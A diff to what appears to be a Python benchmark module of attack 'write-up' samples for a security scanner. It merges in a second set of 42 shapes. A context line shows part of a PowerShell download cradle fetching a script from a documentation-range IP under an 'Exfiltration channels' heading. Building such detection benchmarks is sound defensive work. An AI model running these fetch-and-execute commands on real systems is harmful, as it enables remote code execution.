@@ -12,10 +12,13 @@ ones (``203.0.113.0/24``, ``example.com``), also inside the encoded payloads; to
 keys are made up.
 
 ``WRITEUPS`` maps a name to the code, or to ``(code, {shipped file: bytes})`` for a shape
-that ships files beside its code.
+that ships files beside its code. It holds the 42 shapes of a second reading too
+(``scan_writeups2.WRITEUPS2``, session 30), so that ``--writeups`` counts 256 shapes.
 """
 
 from __future__ import annotations
+
+from benchmarks.scan_writeups2 import WRITEUPS2
 
 WRITEUPS: dict[str, str | tuple[str, dict[str, bytes]]] = {
     # --- Exfiltration channels.
@@ -1359,3 +1362,4 @@ WRITEUPS: dict[str, str | tuple[str, dict[str, bytes]]] = {
         "Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')\"])"
     ),
 }
+WRITEUPS.update(WRITEUPS2)
